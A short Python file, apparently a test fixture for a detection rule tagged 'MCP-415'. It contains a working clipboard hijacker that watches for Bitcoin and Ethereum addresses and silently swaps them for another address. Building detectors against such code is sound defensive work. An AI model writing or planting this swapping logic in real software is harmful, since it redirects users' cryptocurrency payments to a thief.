import re
import time

import pyperclip

# ruleid: MCP-415
ADDRESS = re.compile(r"\b(bc1[a-z0-9]{25,60}|0x[a-fA-F0-9]{40})\b")


def watch():
    while True:
        if ADDRESS.search(pyperclip.paste()):
            pyperclip.copy("bc1qexample")
        time.sleep(1)
